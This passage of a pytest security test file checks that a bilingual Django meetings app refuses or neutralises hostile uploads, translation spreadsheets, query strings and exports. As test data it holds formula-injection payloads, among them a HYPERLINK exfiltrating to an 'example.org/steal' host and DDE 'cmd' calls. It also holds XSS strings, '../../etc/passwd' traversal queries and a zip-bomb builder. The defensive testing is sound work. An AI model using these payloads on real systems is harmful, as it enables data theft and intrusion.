        answer_per=AnswerPer.ORGANISATION,
    )


def _check_download(response, kept: str, content: bytes) -> None:
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].split(";")[0] not in {"text/html", "image/svg+xml", "text/xml", "application/xml"}
    disposition = Message()
    disposition["Content-Disposition"] = response["Content-Disposition"]
    assert disposition.get_content_disposition() == "attachment"
    assert disposition.get_filename() == kept
    assert b"".join(response.streaming_content) == content


@pytest.mark.parametrize("case", UPLOADS)
def test_a_hostile_paper_is_refused_or_kept_under_a_name_of_our_own(case, cast, client_as, media):
    filename, content, expected = UPLOADS[case]
    client = client_as(cast.secretariat)
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Papers")
    body, content_type = _multipart({"title_en": "<b>Paper</b>", "title_cy": ""}, {"file_en": (filename, content)})
    response = client.post(reverse("meetings:paper_add", args=[meeting.pk, item.pk]), body, content_type=content_type)

    assert response.status_code < 500
    paper = Paper.objects.filter(item=item).first()
    if expected == 400:
        assert (response.status_code, paper, _media_files(media.MEDIA_ROOT)) == (400, None, [])
    elif not expected.endswith(".pdf"):
        assert paper is None
        assert _media_files(media.MEDIA_ROOT) == []
        assert response.context["form"].errors == {"file_en": [expected]}
        assert escape(expected) in response.text
    else:
        assert response.status_code == 302
        assert paper.filename_en == expected
        stored = _media_files(media.MEDIA_ROOT)
        assert stored == [Path(paper.file_en.path)]
        assert re.fullmatch(rf"papers/{meeting.pk}/[0-9a-f]{{32}}\.pdf", paper.file_en.name)
        _check_download(client.get(reverse("meetings:paper", args=[meeting.pk, paper.pk, "en"])), expected, content)
    page = client.get(meeting.get_absolute_url())
    assert page.status_code == 200
    assert _dangerous(response.text) + _dangerous(page.text) == []


@pytest.mark.parametrize(
    "case", ["script in the name", "header in the name", "relative path", "control characters", "html named pdf"]
)
def test_a_hostile_file_with_a_feedback_answer_is_refused_or_kept_under_a_name_of_our_own(
    case, cast, client_as, media, feedback_request
):
    filename, content, expected = UPLOADS[case]
    url = feedback_request.get_absolute_url()
    body, content_type = _multipart(
        {"text": "<script>alert(1)</script>", "text_language": "en"}, {"file": (filename, content)}
    )
    response = client_as(cast.member).post(url, body, content_type=content_type)

    assert response.status_code < 500
    answer = FeedbackResponse.objects.filter(request=feedback_request).first()
    if expected.endswith(".pdf"):
        assert answer.filename == expected
        assert _media_files(media.MEDIA_ROOT) == [Path(answer.file.path)]
        assert re.fullmatch(rf"feedback/{feedback_request.pk}/[0-9a-f]{{32}}\.pdf", answer.file.name)
        download = client_as(cast.secretariat).get(
            reverse("actions:feedback_file", args=[feedback_request.pk, answer.pk])
        )
        _check_download(download, expected, content)
    else:
        assert answer is None
        assert _media_files(media.MEDIA_ROOT) == []
        assert response.context["form"].errors == {"file": [expected]}
    pages = [response.text, client_as(cast.secretariat).get(url).text, client_as(cast.member).get(url).text]
    assert [found for page in pages for found in _dangerous(page)] == []


def test_a_refused_file_is_explained_in_welsh_to_a_welsh_reader(cast, client_as, media):
    cast.secretariat.preferred_language = "cy"
    cast.secretariat.save()
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Papers")
    body, content_type = _multipart(
        {"title_en": "Paper", "title_cy": "Papur"},
        {"file_en": ('filename="x.pdf.html"', PDF_BYTES), "file_cy": ('filename="x.html.pdf"', HTML_PAGE)},
    )
    response = client_as(cast.secretariat).post(
        reverse("meetings:paper_add", args=[meeting.pk, item.pk]), body, content_type=content_type
    )
    welsh = {
        "file_en": ["Rhaid i'r ffeil fod yn ddogfen PDF, DOCX, ODT neu XLSX"],
        "file_cy": ["Nid yw'r ffeil yn ddogfen PDF go iawn. Cadwch hi eto fel PDF ac uwchlwythwch honno"],
    }
    assert response.context["form"].errors == welsh
    assert [message for [message] in welsh.values() if message not in unescape(response.text)] == []
    assert not Paper.objects.exists()


# The translation spreadsheet ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.org/steal?c="&A1,"Click for the Welsh")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=",
]
CONTROL = "red \x1b[31m text\x08 with \x0b control \x1f characters"
MEGABYTE = 1024 * 1024
UNREADABLE = "The file could not be read as a translation spreadsheet from this service."


@pytest.fixture
def translatable(cast):
    """Minutes whose English is formulas, control characters and the hostile payloads."""
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    texts = [*FORMULAS, CONTROL, *(payload.replace("\x00", "") for payload in PAYLOADS)]
    items = [services.add_item(meeting, title_en=text[:300]) for text in texts]
    services.mark_held(meeting, by=cast.secretariat)
    for text, item in zip(texts, items, strict=True):
        services.save_item_minutes(item, minutes_en=text, minutes_cy="", revision=0, by=cast.secretariat)
    services.add_decision(items[0], text_en=FORMULAS[1], text_cy="", by=cast.secretariat)
    return meeting


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def _saved(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(client, meeting, content: bytes, name: str = "cymraeg.xlsx"):
    return client.post(reverse("meetings:translation", args=[meeting.pk]), {"file": SimpleUploadedFile(name, content)})


def test_the_translation_export_writes_text_never_a_formula_and_reads_back_the_same(translatable, cast, client_as):
    client = client_as(cast.secretariat)
    export = client.get(reverse("meetings:translation_export", args=[translatable.pk]))
    assert export.status_code == 200
    assert export["Content-Disposition"].startswith("attachment;")
    sheet_xml = zipfile.ZipFile(io.BytesIO(export.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    workbook = _workbook(export.content)
    sheet = workbook["Translation"]
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    english = {row[0].value: row[2].value for row in sheet.iter_rows(min_row=2)}
    for formula in FORMULAS:
        assert formula in english.values()
    assert "red [31m text with  control  characters" in english.values()  # XLSX cannot hold them

    # The translator's Welsh is the same hostile text, typed as text: it comes back exactly; a minute
    # with a link to neither the web nor an email address refuses the file, as the editor does.
    with_bad_links = []
    for row in sheet.iter_rows(min_row=2):
        row[3].value = row[2].value
        row[3].data_type = "s"
        if row[0].value.endswith(":minutes") and link_problems(row[2].value or ""):
            with_bad_links.append(row)
    refused = _upload(client, translatable, _saved(workbook))
    assert "A link&#x27;s address must start with https://" in refused.text
    for row in with_bad_links:
        row[3].value = None
    response = _upload(client, translatable, _saved(workbook))
    assert response.status_code == 200, response.context["form"].errors
    items = AgendaItem.objects.filter(meeting=translatable)
    welsh = {item.minutes_en.replace("\x00", ""): item.minutes_cy for item in items}
    for formula in FORMULAS:
        assert welsh[formula] == formula.strip()
    assert welsh[PAYLOADS[0]] == PAYLOADS[0]
    assert {item.title_en: item.title_cy for item in items}[FORMULAS[0]] == FORMULAS[0]
    assert _dangerous(response.text) == []
    editor = client.get(reverse("meetings:minutes_edit", args=[translatable.pk]))
    assert _dangerous(editor.text) == []

    # Exported again, the Welsh is text too.
    again = client.get(reverse("meetings:translation_export", args=[translatable.pk]))
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(again.content)).read("xl/worksheets/sheet1.xml")


def test_welsh_cells_that_are_formulas_numbers_or_payloads_are_taken_as_text_or_left_alone(
    translatable, cast, client_as
):
    client = client_as(cast.secretariat)
    workbook = _workbook(client.get(reverse("meetings:translation_export", args=[translatable.pk])).content)
    rows = list(workbook["Translation"].iter_rows(min_row=2))
    rows[0][3].value = "=1+1"  # a formula the translator typed: no value saved with it, so nothing to take
    rows[1][3].value = 2022  # a number
    rows[2][3].value = datetime.datetime(2022, 9, 22, 9)  # a date
    for row, payload in zip(rows[3:], PAYLOADS, strict=False):
        # Cut to a title's 300 characters: a longer Welsh title refuses the file (test_translation.py).
        row[3].value = ILLEGAL_CHARACTERS_RE.sub("", payload)[:300]
    response = _upload(client, translatable, _saved(workbook))

    assert response.status_code == 200, response.context["form"].errors
    assert _dangerous(response.text) == []
    keys = [row[0].value for row in rows]
    item = AgendaItem.objects.get(pk=keys[1].split(":")[1])
    assert item.title_cy == "2022" if keys[1].endswith("title") else item.minutes_cy == "2022"
    assert AgendaItem.objects.get(pk=keys[0].split(":")[1]).title_cy == ""
    for page in ("minutes_edit", "minutes_review", "translation"):
        assert _dangerous(client.get(reverse(f"meetings:{page}", args=[translatable.pk])).text) == []


def _big_sheet() -> bytes:
    """An XLSX whose sheet unpacks to 60 MB of rows from a file of a few hundred kilobytes."""
    rows = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1_300_000
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return sheet + rows + b"</sheetData></worksheet>"


def _hostile_workbooks(meeting) -> dict[str, tuple[bytes, str]]:
    exported = translation_module.export_xlsx(meeting)
    archive = zipfile.ZipFile(io.BytesIO(exported))
    members = {name: archive.read(name) for name in archive.namelist()}

    def changed(edit) -> bytes:
        workbook = _workbook(exported)
        edit(workbook)
        return _saved(workbook)

    def other_meeting(workbook):
        about = workbook["About"]
        about["B1"], about["B2"], about["B3"] = 999999, "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'

    def unknown_rows(workbook):
        workbook["Translation"].append(["item:999999:title", "<svg/onload=alert(1)>", "x", "y", "z"])
        workbook["Translation"].append([5, 6, 7, 8, 9])

    def english_changed(workbook):
        workbook["Translation"]["C2"] = "<img src=x onerror=alert(1)>"

    def header_changed(workbook):
        workbook["Translation"]["D1"] = "<script>alert(1)</script>"

    return {
        # Markup is read as XLIFF, which refuses any document type before anything else.
        "html named xlsx": (HTML_PAGE, "The file declares entities or a document type"),
        "text named xlsx": (b"key,where,English,Cymraeg", "The file could not be read as a translation file"),
        "malformed zip": (b"PK\x03\x04" + b"\xff" * 200, UNREADABLE),
        "docx": (_zip({"word/document.xml": b"<w/>"}), UNREADABLE),
        "zip bomb": (_zip({**members, "xl/worksheets/sheet1.xml": _big_sheet()}), UNREADABLE),
        "without its About sheet": (changed(lambda workbook: workbook.remove(workbook["About"])), UNREADABLE),
        "too big": (exported.ljust(MEGABYTE + 1, b"\0"), "The file must be smaller than 1.0\xa0MB"),
        "empty": (b"", EMPTY),
        "another meeting": (changed(other_meeting), "This file is for another meeting"),
        "rows not in these minutes": (changed(unknown_rows), "The file has rows these minutes no longer have"),
        "English changed": (changed(english_changed), "The English has changed since the file was exported"),
        "columns changed": (changed(header_changed), "The file's columns have been changed."),
    }


def test_a_hostile_translation_file_is_refused_whole_with_a_plain_message(translatable, cast, client_as, media):
    media.PAPER_MAX_BYTES = MEGABYTE  # room for the zip bomb, which is small until it is opened
    client = client_as(cast.secretariat)
    before = list(AgendaItem.objects.filter(meeting=translatable).values_list("title_cy", "minutes_cy"))
    answers = {}
    for case, (content, message) in _hostile_workbooks(translatable).items():
        response = _upload(client, translatable, content)
        errors = response.context["form"].errors["file"] if response.status_code == 400 else []
        answers[case] = (response.status_code, [error[: len(message)] for error in errors], _dangerous(response.text))
        assert answers[case] == (400, [message], []), case
    assert list(AgendaItem.objects.filter(meeting=translatable).values_list("title_cy", "minutes_cy")) == before
    assert _media_files(media.MEDIA_ROOT) == []


# Query strings the forms would never send ---------------------------------------------------------


def test_malformed_query_strings_get_an_answer_not_an_error(cast, client_as):
    client = client_as(cast.secretariat)
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Welcome")
    services.mark_held(meeting, by=cast.secretariat)
    services.save_item_minutes(item, minutes_en="Minuted.", minutes_cy="", revision=0, by=cast.secretariat)
    log = reverse("actions:log", args=[cast.group.slug])
    decisions = reverse("meetings:decisions", args=[cast.group.slug])
    queries = [
        "q=%ff%fe%fd&status=%c3%28",  # not UTF-8
        "q=%00&due_from=%00&sort=%00&page=%00",
        "page=99999999999999999999999999&sort=-due&sort=status&sort=",
        "page=-1&status=open&status=done&owner_person=1&owner_person=x",
        "due_from=31/02/2022&due_to=00/00/0000&overdue=maybe",
        "owner_person=99999999999999999999999&meeting=-0&owner_organisation=1e3",
        "status[]=open&q[]=x&sort[%3Cscript%3E]=1",
        "export=csv&export=xlsx&q=%3Cscript%3E",
        "export=../../etc/passwd",
        "q=" + "%3Cscript%3E" * 2000,
        "&&&==&=&q",
        "%",
        "q=%E2%80%AE%F0%9F%98%80",
    ]
    responses = [client.get(f"{url}?{query}") for url in (log, decisions) for query in queries]
    responses += [
        client.get(f"{reverse('meetings:item_add', args=[meeting.pk])}?parent=%00"),
        *(
            client.get(f"{reverse('meetings:minutes_pdf', args=[meeting.pk])}?layout={layout}")
            for layout in ("%3Cscript%3E", "sequential&layout=side-by-side", "../../etc/passwd")
        ),
    ]
    assert [(r.request["QUERY_STRING"], r.status_code) for r in responses if r.status_code >= 500] == []
    pages = [r.text for r in responses if r.get("Content-Type", "").startswith("text/html")]
    assert [found for page in pages for found in _dangerous(page)] == []
    assert [r["Content-Type"] for r in responses[-3:]] == ["application/pdf"] * 3


# The other exports -------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_action_log_and_feedback_exports_carry_no_formula(cast, client_as, feedback_request):
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Actions")
    services.mark_held(meeting, by=cast.secretariat)
    for formula in FORMULAS:
        action_services.record_action(
            item,
            text_en=formula,
            text_cy=formula,
            owner_person=cast.member,
            owner_organisation=None,
            due_date=None,
            by=cast.secretariat,
        )
    client = client_as(cast.secretariat)
    log = reverse("actions:log", args=[cast.group.slug])
    xlsx = client.get(log, {"export": "xlsx"}).content
    csv_text = client.get(log, {"export": "csv"}).content.decode("utf-8-sig")
    action_services.answer_feedback(feedback_request, by=cast.member, text=FORMULAS[1], text_language="en")
    answers = client.get(reverse("actions:feedback_export", args=[feedback_request.pk])).content.decode("utf-8-sig")

    workbook = _workbook(xlsx)
    assert [
        cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ] == []
    for text in (csv_text, answers):
        assert [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_START)] == []
    assert FORMULAS[1] in answers  # still there, only made text


def test_the_decisions_register_and_feedback_xlsx_exports_carry_no_formula(cast, client_as, feedback_request):
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en=FORMULAS[0], title_cy=FORMULAS[0])
    services.mark_held(meeting, by=cast.secretariat)
    for formula in FORMULAS:
        services.add_decision(item, text_en=formula, text_cy=formula, by=cast.secretariat)
    action_services.answer_feedback(feedback_request, by=cast.member, text=FORMULAS[1], text_language="en")
    client = client_as(cast.secretariat)
    decisions = reverse("meetings:decisions", args=[cast.group.slug])
    csv_text = client.get(decisions, {"export": "csv"}).content.decode("utf-8-sig")
    workbooks = [
        _workbook(client.get(decisions, {"export": "xlsx"}).content),
        _workbook(client.get(reverse("actions:feedback_export_xlsx", args=[feedback_request.pk])).content),
    ]

    assert [
        cell.coordinate
        for workbook in workbooks
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ] == []
    assert [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row if cell.startswith(FORMULA_START)] == []
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert cells.count("'" + FORMULAS[0]) == len(FORMULAS) + 2  # the item title on every row, and its decision twice


def test_a_paper_an_administrator_uploads_past_the_checks_is_still_never_served_as_a_page(cast, client_as, media):
    """The admin site's form for papers does not check files; the download must not trust them either."""
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Papers")
    client = client_as(cast.admin)
    for name, content in (("page.html", HTML_PAGE), ("image.svg", SVG_IMAGE), ("page.xhtml", HTML_PAGE)):
        response = client.post(
            reverse("admin:meetings_paper_add"),
            {
                "item": item.pk,
                "title_en": name,
                "uploaded_by": cast.admin.pk,
                "file_en": SimpleUploadedFile(name, content),
            },
        )
        assert response.status_code == 302, response.context["adminform"].form.errors
        paper = Paper.objects.get(title_en=name)
        download = client.get(reverse("meetings:paper", args=[meeting.pk, paper.pk, "en"]))
        assert download["Content-Type"] == "application/octet-stream"
        _check_download(download, paper.file_en.name.rsplit("/", 1)[-1], content)
